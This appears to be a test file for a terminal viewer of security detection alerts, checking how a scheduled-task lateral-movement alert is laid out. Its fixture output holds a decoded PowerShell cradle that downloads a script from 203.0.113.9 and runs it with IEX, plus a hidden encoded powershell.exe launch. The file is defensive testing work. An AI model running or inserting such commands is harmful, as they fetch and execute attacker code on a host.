import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  detailPage,
  headingLines,
  headingRows,
  sectionAt,
  widePage,
} from "../../../../src/screen/rows/detail/page.ts";
import { reflow } from "../../../../src/screen/rows/detail/about.ts";
import {
  orderNote,
  shortChannel,
} from "../../../../src/screen/rows/detail/timeline.ts";
import { ASCII_GLYPHS } from "../../../../src/screen/rows/glyphs.ts";
import type { Look } from "../../../../src/screen/rows/look.ts";
import { textOf, widthOf } from "../../../../src/screen/rows/segment.ts";
import type {
  AlertDetail,
  StepDetail,
} from "../../../../src/screen/store/snapshot.ts";
import {
  ALERTS,
  STEPS,
  TASK_RECORD,
  detail,
} from "../../../screen/fake-snapshot.ts";

const LOOK: Look = { glyphs: ASCII_GLYPHS, time: "utc", clockUs: undefined };

/** The lines of one section, without its title and the blank line behind it. */
function section(name: string, d: AlertDetail, width = 80): string[] {
  const { lines, sections } = detailPage(d, width, LOOK);
  const i = sections.findIndex((s) => s.name === name);
  const from = sections[i]!.at + (i === 0 ? 0 : 1);
  const to = sections[i + 1]?.at ?? lines.length;
  return lines.slice(from, to - 1).map((l) => textOf(l).trimEnd());
}

function withEvent(
  step: StepDetail,
  over: Partial<NonNullable<StepDetail["event"]>>,
): StepDetail {
  return { ...step, event: { ...step.event!, ...over } };
}

describe("the timeline", () => {
  test("says that the first step was logged after the second", () => {
    expect(section("Timeline", detail())).toEqual([
      " 1  2024-03-05 12:04:07.091Z  Sysmon 3                                   WKS-014",
      "    svchost.exe 10.0.0.7:52110 to 10.0.0.14:49667 tcp, incoming",
      "    logged 1.0 s after step 2, happened 21.2 s before it",
      " |  gap 21.220 s     ########................  35% of maxspan",
      " 2  2024-03-05 12:04:28.311Z  Sysmon 13                                  WKS-014",
      "    svchost.exe set HKLM\\SOFTWARE\\Microsoft\\Windows",
      "    NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{6F3C1A52-0000-4000-8000-00000000",
      "    0001}\\Actions",
      " =  span 21.220 s    ########................  of maxspan 01:00",
      "     o happened, w written                             line: 01:00, the maxspan",
      " 1   o--------------------------w                                             |",
      " 2                             o                                              |",
      "     written in the order 2 1",
      "    joined by host.id = wks-014   process.entity_id =",
      "    {f66f7c10-0000-0000-0000-000000000001}",
    ]);
  });

  test("a step that had to be missing is a step", () => {
    const missing = { step: 2, filter: "process where true", event: undefined };
    const third = { ...STEPS[1]!, step: 3 };
    const lines = section(
      "Timeline",
      detail({ steps: [STEPS[0]!, missing, third] }),
    );
    expect(lines[2]).toBe(
      "    logged 1.0 s after step 3, happened 21.2 s before it",
    );
    expect(lines.slice(3, 6)).toEqual([
      " 2  did not happen",
      "    process where true",
      " |  gap 21.220 s     ########................  35% of maxspan",
    ]);
  });

  test("the events of a sample stand as they happened, whichever filter they fill", () => {
    const [first, second] = [STEPS[0]!, STEPS[1]!];
    const steps = [
      { ...first, step: 2 },
      { ...second, step: 1 },
    ];
    const lines = section("Timeline", detail({ steps, maxspanUs: undefined }));
    expect(lines.slice(0, 5)).toEqual([
      " 2  2024-03-05 12:04:07.091Z  Sysmon 3                                   WKS-014",
      "    svchost.exe 10.0.0.7:52110 to 10.0.0.14:49667 tcp, incoming",
      "    logged 1.0 s after step 1, happened 21.2 s before it",
      " |  gap 21.220 s",
      " 1  2024-03-05 12:04:28.311Z  Sysmon 13                                  WKS-014",
    ]);
  });

  test("without maxspan there is nothing to measure against", () => {
    const lines = section("Timeline", detail({ maxspanUs: undefined }));
    expect(lines[3]).toBe(" |  gap 21.220 s");
    expect(lines[8]).toBe(" =  span 21.220 s      the rule sets no maxspan");
  });

  test("how sure it is, and why it was closed", () => {
    const row = {
      ...ALERTS[0]!,
      certainty: "provisional" as const,
      revision: 3,
      status: "closed" as const,
    };
    expect(
      section("Timeline", detail({ row, reason: "duplicate" })).slice(-3),
    ).toEqual([
      "    provisional: an event that is written late could still undo it",
      "    revision 3: events that were written late changed the evidence",
      "    closed: duplicate",
    ]);
    const gone = { ...ALERTS[0]!, certainty: "withdrawn" as const };
    expect(section("Timeline", detail({ row: gone })).at(-1)).toBe(
      "    withdrawn: an event that was written late undid it",
    );
  });
});

describe("the order of two steps in the log", () => {
  const [first, second] = [STEPS[0]!, STEPS[1]!];
  test("by the time they were logged", () => {
    expect(orderNote(first, second)).toBe(
      "logged 1.0 s after step 2, happened 21.2 s before it",
    );
  });

  test("by their place in the file where the log does not tell the time", () => {
    expect(orderNote(withEvent(first, { writtenUs: undefined }), second)).toBe(
      "stands behind step 2 in the log, happened 21.2 s before it",
    );
  });

  test("nothing is said where the log has them as they happened", () => {
    const early = withEvent(first, {
      writtenUs: first.event!.timeUs,
      offset: 1,
    });
    expect(orderNote(early, second)).toBeUndefined();
    const elsewhere = withEvent(first, {
      writtenUs: undefined,
      file: "other.ndjson",
    });
    expect(orderNote(elsewhere, second)).toBeUndefined();
  });
});

test("channels by the name people use", () => {
  expect(shortChannel("Microsoft-Windows-Sysmon/Operational")).toBe("Sysmon");
  expect(shortChannel("Security")).toBe("Security");
});

describe("the action", () => {
  test("of a task: what runs, decoded, as whom and when", () => {
    expect(section("Action", detail())).toEqual([
      "  \\Updater",
      "    created 2024-03-05 12:04:28.400Z on WKS-014 by CORP\\jdoe, from task event",
      "    4698",
      "    decoded: powershell-encoded",
      "      $u = 'http://203.0.113.9/a.ps1'",
      "      IEX (iwr $u -UseBasicParsing)",
      "    runs    powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACA…",
      "    in      C:\\Windows\\Temp",
      "    look    PowerShell with an encoded command: -enc SQBFAFgA",
      "    as      S-1-5-18, HighestAvailable, hidden",
      "    when    every 5 minutes from 2024-03-05 12:05",
      "    the author is a placeholder: $(@%systemroot%\\x.dll,-1)",
    ]);
  });

  test("that is not known says why", () => {
    const unknown = {
      ...TASK_RECORD,
      path: undefined,
      user: undefined,
      hints: [],
      definition: undefined,
      from: "",
      unknown: "the value is not in the log",
    };
    expect(section("Action", detail({ tasks: [unknown] }))).toEqual([
      "  {6F3C1A52-0000-4000-8000-000000000001}",
      "    created 2024-03-05 12:04:28.400Z on WKS-014",
      "    the value is not in the log",
    ]);
    expect(section("Action", detail({ tasks: [] }))).toEqual([
      "    No scheduled task is known behind this alert.",
    ]);
  });

  test("of every kind", () => {
    const definition = {
      status: "ok",
      source: "xml-event",
      problems: [],
      context: null,
      actions: [
        { type: "comHandler", id: null, classId: "{AB}", data: "x" },
        {
          type: "sendEmail",
          id: null,
          to: "a@example.org",
          subject: "s",
          body: "b",
        },
        { type: "showMessage", id: null, title: "t", body: "b" },
        { type: "unknown", id: null, name: "0x9999" },
        { type: "exec", id: null },
      ],
    } as const;
    const task = { ...TASK_RECORD, hints: [], layers: [], definition };
    expect(section("Action", detail({ tasks: [task] })).slice(3)).toEqual([
      "    COM     {AB}",
      "    data    x",
      "    mail    to a@example.org, subject s: b",
      "    shows   t: b",
      "    ?       an action of a kind not known: 0x9999",
      "    runs    (the command was not reached)",
    ]);
  });
});

test("the rule tells what is folded, what is left out and what an Endpoint would do", () => {
  const own = detail();
  const lines = section("Rule", {
    ...own,
    row: { ...own.row, isBlock: true },
    suppression: {
      terms: [
        { field: "host.name", value: "WKS-014" },
        { field: "user.name", value: null },
      ],
      count: 12,
      startUs: Date.UTC(2026, 2, 11, 9) * 1_000,
      endUs: Date.UTC(2026, 2, 11, 10) * 1_000,
      isFinal: false,
    },
    exclusions: [
      { kind: "exception", name: "Ours", condition: 'user.name in ("ann")' },
    ],
    endpointActions: ["kill_process process.entity_id"],
  });
  expect(lines.slice(4, 7)).toMatchInlineSnapshot(`
    [
      "  kind    building block",
      "  folded  12 more until 2026-03-11 10:00:00.000Z: host.name WKS-014, user.name",
      "          none",
    ]
  `);
  const text = lines.join("\n");
  expect(text).toContain(
    '  Left out\n    exception Ours: user.name in ("ann")',
  );
  expect(text).toContain(
    "  Endpoint would\n    kill_process process.entity_id",
  );
});

test("the rule, its guide and its place in ATT&CK", () => {
  expect(section("Rule", detail()).slice(0, 4)).toEqual([
    "  Scheduled Task Runs a Hidden Shell  CRIT",
    "  risk    47",
    "  id      954ee7c8-5437-49ae-b2d6-2960883898e9",
    "  file    rules/windows/lateral_movement_scheduled_task.toml",
  ]);
  expect(section("Rule", detail())).toContain(
    '      [network where process.name : "svchost.exe" and source.port >= 49152]',
  );
  expect(section("Guide", detail())).toEqual([
    "    0 of 2 steps done; Space ticks the one with the >",
    "  Triage",
    "",
    "  [ ] 1  Decode the task's actions.",
    "  [ ] 2  Find out who connected.",
    "",
    "  Response",
    "",
    "    Isolate the host if the action is not known.",
  ]);
  expect(section("Guide", detail({ guide: " " }))).toEqual([
    "    The rule brings no investigation guide.",
  ]);
  expect(section("ATT&CK", detail())).toEqual([
    "    TA0008 Lateral Movement",
    "      T1053 Scheduled Task/Job",
    "        T1053.005 Scheduled Task",
  ]);
  expect(section("ATT&CK", detail({ threats: [] }))).toEqual([
    "    The rule names no tactic or technique.",
  ]);
});

test("prose that its author wrapped is wrapped anew, lists and code are not", () => {
  expect(reflow("one\ntwo\n\nthree\n- four\n  five\nsix")).toBe(
    "one two\n\nthree\n- four\n  five six",
  );
  expect(reflow("# Head\ntext\n```\na\nb\n```\nmore")).toBe(
    "# Head\ntext\n```\na\nb\n```\nmore",
  );
  expect(reflow("1. a\n2. b\n| t |\nafter")).toBe("1. a\n2. b\n| t |\nafter");
});

test("the evidence can be found again in its file", () => {
  const lines = section("Raw", detail());
  expect(lines.slice(0, 6)).toEqual([
    " 1  /var/log/win/wks.ndjson:60213",
    "    offset 88,121,920, 1,622 bytes, shape wl-raw",
    "    happened 2024-03-05 12:04:07.091Z, logged 2024-03-05 12:04:29.300Z",
    "  process.name      svchost.exe",
    "  source.ip         10.0.0.7",
    "  source.port       52110",
  ]);
  expect(lines).toContain(" 2  /var/log/win/wks.ndjson:60201");
});

test("a spelling that the rule meant and a time as written are said", () => {
  const [first, ...others] = detail().steps;
  const event = {
    ...first!.event!,
    aliases: { "process.name": "SVCHOST" },
    timeUncertain: true,
  };
  const lines = section(
    "Raw",
    detail({ steps: [{ ...first!, event }, ...others] }),
  );
  expect(lines.slice(2, 5)).toEqual([
    "    happened 2024-03-05 12:04:07.091Z, logged 2024-03-05 12:04:29.300Z",
    "    no Sysmon event tells the zone of this log: the times are as written",
    '  process.name      svchost.exe (matched as "SVCHOST")',
  ]);
});

test("in a wide window the timeline stands beside the page", () => {
  const page = widePage(detail(), 60, 59, LOOK);
  expect(textOf(page.beside[0]!)).toBe(`-- Timeline ${"-".repeat(48)}`);
  expect(page.sections.map((s) => s.name)).toEqual([
    "Action",
    "Rule",
    "Guide",
    "ATT&CK",
    "Why",
    "Raw",
  ]);
  expect(sectionAt(page, page.sections[2]!.at)).toBe("Guide");
  expect(sectionAt(page, page.sections[2]!.at - 1)).toBe("Rule");
});

test("a low window has a shorter heading", () => {
  const page = detailPage(detail(), 80, LOOK);
  const draw = (height: number): string[] =>
    headingLines(
      ALERTS[0],
      "alert 1 of 7",
      page,
      "Rule",
      80,
      headingRows(height),
      LOOK,
    ).map(textOf);
  expect(draw(20)).toEqual([
    "CRIT  new  Scheduled Task Runs a Hidden Shell                       alert 1 of 7",
    "WKS-014  CORP\\jdoe  fired 2024-03-05 12:04:28.311Z                            a1",
    "--  Timeline   Action  [Rule]  Guide   ATT&CK   Why   Raw  ---------------------",
  ]);
  expect(draw(6)).toHaveLength(2);
  expect(draw(3)).toHaveLength(1);
});

test("no line is wider than the page, whatever rule and log say", () => {
  const hostile = fc.oneof(
    fc.string({ unit: "binary", maxLength: 80 }),
    fc.constantFrom(
      "\x1b]8;;http://x\x07",
      "日本語".repeat(40),
      "a b ".repeat(99),
    ),
  );
  fc.assert(
    fc.property(
      hostile,
      hostile,
      fc.integer({ min: 20, max: 200 }),
      (a, b, width) => {
        const event = { summary: a, host: b, channel: a, code: b, file: a };
        const d = detail({
          row: { ...ALERTS[0]!, rule: a, host: b, user: a },
          description: a,
          query: b,
          guide: `# ${a}\n${b}`,
          references: [a],
          key: { [b]: a },
          steps: STEPS.map((step) => ({
            ...withEvent(step, {
              ...event,
              fields: { [a]: b, "process.name": a },
            }),
            filter: b,
          })),
          tasks: [
            {
              ...TASK_RECORD,
              path: a,
              user: b,
              layers: [{ kind: a, text: b }],
              unknown: a,
            },
          ],
        });
        const page = detailPage(d, width, LOOK);
        const heading = headingLines(d.row, "", page, "Raw", width, 3, LOOK);
        for (const line of [...heading, ...page.lines]) {
          expect(widthOf(line.segments)).toBeLessThanOrEqual(width);
          expect(/[\p{Cc}\p{Cf}\p{Cs}]/u.test(textOf(line))).toBe(false);
        }
      },
    ),
    { numRuns: 60 },
  );
});
